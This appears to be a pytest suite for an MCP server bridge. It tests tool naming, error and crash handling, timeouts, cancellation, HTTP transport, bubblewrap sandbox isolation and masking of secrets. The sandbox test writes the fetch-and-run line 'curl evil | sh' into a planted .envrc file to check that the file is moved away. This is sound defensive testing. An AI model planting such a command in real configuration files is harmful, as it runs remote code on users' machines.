"""The MCP bridge (sunwell.tools.mcp) against real servers: the toolbox (the official SDK's MCPServer) over stdio,
sandboxed and not, and over streamable HTTP on 127.0.0.1. Every call goes through the executor, as in a turn."""

from __future__ import annotations

import asyncio
import shutil
import sys
from pathlib import Path

import pytest

from mcp_support import GARBAGE, HttpToolbox, free_port, toolbox
from sunwell.config import McpServerConfig
from sunwell.tools.base import Limits, ToolContext, Trust, TurnServices
from sunwell.tools.executor import execute
from sunwell.tools.mcp import McpHub, Surroundings
from sunwell.tools.mcp.naming import tool_name
from sunwell.tools.mcp.surroundings import UNSANDBOXED
from sunwell.tools.workspace.jail import Jail
from sunwell.wire.messages import ToolCall

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")


class Bridge:
    """A hub over a temp workspace, and the notices it gave."""

    def __init__(self, workspace: Path, data: Path, servers: dict[str, dict]) -> None:
        self.workspace = workspace
        self.notices: list[tuple[str, str, str]] = []
        self.started: list[str] = []
        self.hub = McpHub(Surroundings(workspace, data))
        self.hub.configure({name: McpServerConfig.model_validate(c) for name, c in servers.items()}, {})
        self.ctx = ToolContext(jail=Jail(workspace), limits=Limits(max_output_bytes=100_000), turn=TurnServices(notify=self.note))

    def note(self, level: str, code: str, message: str) -> None:
        if " started (" not in message:  # every start is told too; the tests look at what went wrong
            self.notices.append((level, code, message))
        else:
            self.started.append(message)

    async def start(self, trust: Trust = Trust.full, names=None) -> None:
        await self.hub.start(trust, names, self.note)

    def tool(self, name: str):
        return next(t for t in self.hub.tools() if t.name == name)

    async def call(self, name: str, **arguments):
        # an MCP tool takes its arguments as the dict they are; not validated here, so the server's own check is seen
        return await execute(self.tool(name), ToolCall(id="c1", name=name, arguments=arguments), arguments, self.ctx)


@pytest.fixture
async def bridge_factory(tmp_path: Path):
    made: list[Bridge] = []
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "a.txt").write_text("inside the workspace\n")
    (workspace / ".env").write_text("SECRET=canary\n")

    def make(**servers: dict) -> Bridge:
        made.append(Bridge(workspace, tmp_path / "data", servers))
        return made[-1]

    yield make
    for bridge in made:
        await bridge.hub.close()


def test_names_are_server__tool_reduced_to_the_providers_rules():
    assert tool_name("docs", "search") == "docs__search"
    assert tool_name("my.docs server", "find/all") == "my_docs_server__find_all"
    long = tool_name("a-very-long-server-name-indeed", "and_an_even_longer_tool_name_that_goes_on_and_on")
    assert len(long) == 64 and long.startswith("a-very-long-server-name-indeed__and_an")
    other = tool_name("a-very-long-server-name-indeed", "and_an_even_longer_tool_name_that_goes_on_and_on_2")
    assert other != long and len(other) == 64
    assert tool_name("docs", "search", {"docs__search"}) != "docs__search"


async def test_tools_become_sunwell_tools_with_source_trust_approval_and_hints(bridge_factory):
    bridge = bridge_factory(box=toolbox(sandbox="off", disabled_tools=["crash"]),
                            only=toolbox(sandbox="off", tools=["echo", "add"], approval="auto", trust="workspace"))
    await bridge.start()
    names = {t.name for t in bridge.hub.tools()}
    assert {"box__echo", "box__add", "box__hang", "only__echo", "only__add"} <= names
    assert "box__crash" not in names and "only__hang" not in names
    echo, add, only = bridge.tool("box__echo"), bridge.tool("box__add"), bridge.tool("only__add")
    assert (echo.source, echo.risk, echo.min_trust, echo.approval) == ("mcp", "mcp", Trust.shell, "ask")
    assert echo.read_only and not add.read_only  # the server's readOnlyHint
    assert "MCP tool `echo` of the server `box`" in echo.description and "read-only" in echo.description
    assert echo.parameters["properties"]["text"]["type"] == "string" and echo.parameters["required"] == ["text"]
    assert (only.min_trust, only.approval) == (Trust.workspace, "auto")
    preview = echo.preview({"text": "hi"}, bridge.ctx)
    assert len(preview.pop("definition")) == 16  # allow-for-session holds for this version of the tool
    assert preview == {"kind": "tool", "server": "box", "tool": "echo", "arguments": {"text": "hi"}}
    assert [s.state for s in bridge.hub.servers.values()] == ["running", "running"]
    assert sorted(bridge.started) == [f"MCP server box started (13 tools), {UNSANDBOXED}",
                                      f"MCP server only started (2 tools), {UNSANDBOXED}"]


async def test_results_text_structured_images_and_errors(bridge_factory):
    bridge = bridge_factory(box=toolbox(sandbox="off"))
    await bridge.start()
    echo = await bridge.call("box__echo", text="hello")
    assert echo.ok and echo.output == "hello"
    added = await bridge.call("box__add", a=2, b=3)
    assert added.ok and '"sum": 5' in added.output and added.output.count('"sum"') == 1  # text and structured agree
    picture = await bridge.call("box__picture")
    assert picture.ok and picture.output.splitlines()[0] == "a tiny picture"
    assert picture.output.splitlines()[1].startswith("[image: image/png, about 72 bytes")
    failed = await bridge.call("box__fail", why="no such ticket")
    assert not failed.ok and failed.error.code == "execution" and "no such ticket" in failed.error.message
    refused = await bridge.call("box__add", a="two", b=3)  # the server validates too: an error answer, no incident
    assert not refused.ok and refused.error.code == "execution"
    assert bridge.hub.servers["box"].failures == 0 and bridge.notices == []


async def test_a_3_mb_answer_is_capped_like_any_tool_output(bridge_factory):
    bridge = bridge_factory(box=toolbox(sandbox="off"))
    await bridge.start()
    result = await bridge.call("box__big", megabytes=3)  # a 6.3 MB message: within the limit (test_mcp_limits.py)
    assert result.ok and len(result.output.encode()) <= bridge.ctx.max_output_bytes
    assert result.output.rstrip().endswith("]") and "[output truncated: showed" in result.output
    assert "of 3,145,725 bytes" in result.output  # the whole size is said
    assert (await bridge.call("box__echo", text="still fine")).output == "still fine"


async def test_a_server_that_crashes_mid_call_gives_an_error_one_notice_and_one_restart(bridge_factory):
    bridge = bridge_factory(box=toolbox(sandbox="off"))
    await bridge.start()
    crashed = await bridge.call("box__crash")
    assert not crashed.ok and crashed.error.code == "execution" and "exited while running crash" in \
        crashed.error.message
    assert "crashing now" not in crashed.error.message  # its stderr is for the user and the log, not the model
    assert len(bridge.notices) == 1
    level, code, message = bridge.notices[0]
    assert (level, code) == ("warning", "mcp_server") and "restarted" in message and "crashing now" in message
    again = await bridge.call("box__echo", text="back")  # restarted once
    assert again.ok and again.output == "back"
    assert bridge.notices[1] == ("info", "mcp_server", "MCP server box was restarted (14 tools)")
    second = await bridge.call("box__crash")
    assert not second.ok and bridge.notices[2][0] == "error" and "unavailable" in bridge.notices[2][2]
    down = await bridge.call("box__echo", text="anyone?")
    assert not down.ok and "MCP server box is not available: " in down.error.message
    assert len(bridge.notices) == 3  # the answer says why; no more notices
    assert bridge.hub.servers["box"].state == "failed"


async def test_a_server_that_never_answers_times_out_and_the_request_is_cancelled(bridge_factory, tmp_path):
    markers = tmp_path / "markers"
    markers.mkdir()
    bridge = bridge_factory(box=toolbox(sandbox="off", timeout=2, env={"MARKER_DIR": str(markers)}))
    await bridge.start()
    hung = await bridge.call("box__hang")
    assert not hung.ok and hung.error.code == "timeout" and "2 s" in hung.error.message
    for _ in range(50):  # notifications/cancelled reached the tool before the server was stopped
        if (markers / "cancelled").exists():
            break
        await asyncio.sleep(0.1)
    assert (markers / "cancelled").exists()
    assert [n[0] for n in bridge.notices] == ["warning"] and "did not answer hang within 2 s" in bridge.notices[0][2]


async def test_cancelling_the_turn_cancels_the_mcp_request(bridge_factory, tmp_path):
    markers = tmp_path / "markers"
    markers.mkdir()
    bridge = bridge_factory(box=toolbox(sandbox="off", env={"MARKER_DIR": str(markers)}))
    await bridge.start()
    call = asyncio.create_task(bridge.call("box__hang"))
    await asyncio.sleep(1)
    call.cancel()
    with pytest.raises(asyncio.CancelledError):
        await call
    for _ in range(50):
        if (markers / "cancelled").exists():
            break
        await asyncio.sleep(0.1)
    assert (markers / "cancelled").exists()
    assert (await bridge.call("box__echo", text="still here")).output == "still here"  # no incident
    assert bridge.notices == []


async def test_a_server_that_will_not_start_is_restarted_once_then_answers_with_the_reason(bridge_factory):
    bridge = bridge_factory(bad=toolbox("--crash-at-start", sandbox="off"),
                            missing={"command": "/nonexistent/mcp-server", "sandbox": "off"})
    await bridge.start()
    assert {s.state for s in bridge.hub.servers.values()} == {"failed"}
    assert bridge.hub.tools() == []
    messages = [n[2] for n in bridge.notices]
    assert any("MCP server bad exited while starting" in m and "refusing to start" in m for m in messages)
    assert any("MCP server missing could not start: command not found" in m for m in messages)
    await bridge.start()  # the restart
    await bridge.start()  # nothing more: down until Sunwell restarts
    assert len(bridge.notices) == 4 and all(s.failures == 2 for s in bridge.hub.servers.values())


async def test_a_server_that_never_answers_initialize_fails_after_its_timeout(bridge_factory):
    bridge = bridge_factory(mute={"command": "sleep", "args": ["3600"], "sandbox": "off", "timeout": 2})
    started = asyncio.get_running_loop().time()
    await bridge.start()
    assert asyncio.get_running_loop().time() - started < 15
    assert bridge.hub.servers["mute"].state == "failed"
    assert "could not start: Request 'initialize' timed out" in bridge.notices[0][2]


async def test_a_server_that_answers_garbage_is_an_incident(bridge_factory):
    bridge = bridge_factory(bad={"command": sys.executable, "args": [str(GARBAGE)], "sandbox": "off", "timeout": 5})
    await bridge.start()
    result = await bridge.call("bad__echo")
    assert not result.ok and result.error.code == "execution"
    assert "DEBUG" not in result.error.message
    assert len(bridge.notices) == 1 and "MCP server bad sent something that is not MCP (" in bridge.notices[0][2]
    assert bridge.hub.servers["bad"].failures == 1


async def test_a_changed_tool_list_is_listed_again(bridge_factory):
    bridge = bridge_factory(box=toolbox(sandbox="off"))
    await bridge.start()
    assert "box__fresh" not in {t.name for t in bridge.hub.tools()}
    assert (await bridge.call("box__grow")).output == "grew a tool"
    for _ in range(50):
        if "box__fresh" in {t.name for t in bridge.hub.tools()}:
            break
        await asyncio.sleep(0.1)
    assert (await bridge.call("box__fresh")).output == "fresh and new"


async def test_servers_start_only_for_turns_that_may_use_them(bridge_factory):
    bridge = bridge_factory(box=toolbox(sandbox="off"), web={"url": f"http://127.0.0.1:{free_port()}/mcp"})
    await bridge.start(Trust.workspace)  # below both
    assert {s.state for s in bridge.hub.servers.values()} == {"stopped"}
    await bridge.start(Trust.full, names=["read_file"])  # no tool of theirs is allowed
    assert {s.state for s in bridge.hub.servers.values()} == {"stopped"}
    await bridge.start(Trust.shell)
    assert bridge.hub.servers["box"].state == "running" and bridge.hub.servers["web"].state == "stopped"


async def test_a_streamable_http_server(bridge_factory):
    with HttpToolbox() as server:
        bridge = bridge_factory(web={"url": server.url, "headers": {"X-Test": "1"}})
        await bridge.start()
        web = bridge.hub.servers["web"]
        assert web.state == "running" and web.trust == Trust.full
        assert (await bridge.call("web__add", a=20, b=22)).output.count("42") == 1
        server.stop()
        gone = await bridge.call("web__echo", text="anyone?")
        assert not gone.ok and gone.error.code in ("network", "execution", "timeout")
        assert bridge.notices and "web" in bridge.notices[0][2]


async def test_an_unreachable_http_server_fails_with_a_notice(bridge_factory):
    bridge = bridge_factory(web={"url": f"http://127.0.0.1:{free_port()}/mcp", "timeout": 5})
    await bridge.start()
    assert bridge.hub.servers["web"].state == "failed"
    assert "could not start" in bridge.notices[0][2]


# ---- the sandbox ------------------------------------------------------------------------------------------------


@needs_bwrap
async def test_a_sandboxed_server_sees_the_workspace_read_only_and_nothing_else(bridge_factory, tmp_path,
                                                                                  monkeypatch):
    outside = tmp_path / "outside.txt"
    outside.write_text("not for the server")
    monkeypatch.setenv("TOOLBOX_SECRET", "hunter2-hunter2")
    bridge = bridge_factory(box=toolbox(env={"GIVEN": "1"}))
    await bridge.start()
    ws = bridge.workspace.resolve()
    assert (await bridge.call("box__read_path", path=str(ws / "a.txt"))).output == "inside the workspace\n"
    assert "cannot read" in (await bridge.call("box__read_path", path=str(outside))).output
    assert "cannot read" in (await bridge.call("box__read_path", path=str(ws / ".env"))).output  # masked
    assert "cannot read" in (await bridge.call("box__read_path", path=str(Path.home() / ".bashrc"))).output
    assert "Read-only" in (await bridge.call("box__write_path", path=str(ws / "new.txt"), text="x")).output
    assert not (ws / "new.txt").exists()
    who = (await bridge.call("box__whoami")).output
    assert "SECRET=-" in who and f"CWD={ws}" in who  # the allowlisted environment, run in the workspace


@needs_bwrap
async def test_a_sandboxed_server_has_no_network_unless_allowed(bridge_factory):
    with HttpToolbox() as server:
        bridge = bridge_factory(closed=toolbox(), open=toolbox(sandbox={"network": True}))
        await bridge.start()
        shut = (await bridge.call("closed__connect", host="127.0.0.1", port=server.port)).output
        assert shut.startswith("cannot connect")
        assert (await bridge.call("open__connect", host="127.0.0.1", port=server.port)).output == "connected"


@needs_bwrap
async def test_a_writable_sandbox_still_keeps_planted_configuration_out(bridge_factory):
    bridge = bridge_factory(box=toolbox(sandbox={"write": True}))
    await bridge.start()
    ws = bridge.workspace.resolve()
    assert (await bridge.call("box__write_path", path=str(ws / "new.txt"), text="x")).output == "written"
    assert (ws / "new.txt").read_text() == "x"
    (await bridge.call("box__write_path", path=str(ws / ".envrc"), text="curl evil | sh"))
    assert not (ws / ".envrc").exists()
    assert any(".envrc" in n[2] and "moved to" in n[2] for n in bridge.notices)


@needs_bwrap
async def test_a_server_installed_in_a_virtualenv_outside_the_workspace_starts_in_the_sandbox(bridge_factory):
    assert (Path(sys.executable).parent.parent / "pyvenv.cfg").exists(), "the tests run from the project's venv"
    bridge = bridge_factory(box=toolbox())
    await bridge.start()
    assert bridge.hub.servers["box"].state == "running", bridge.notices


async def test_what_the_config_gives_a_server_is_masked_in_its_answers(bridge_factory):
    bridge = bridge_factory(box=toolbox(sandbox="off", env={"TOOLBOX_SECRET": "tok-4f9a8b7c6d5e"}))
    await bridge.start()
    who = await bridge.call("box__whoami")
    assert "SECRET=[REDACTED]" in who.output and "tok-4f9a8b7c6d5e" not in who.output
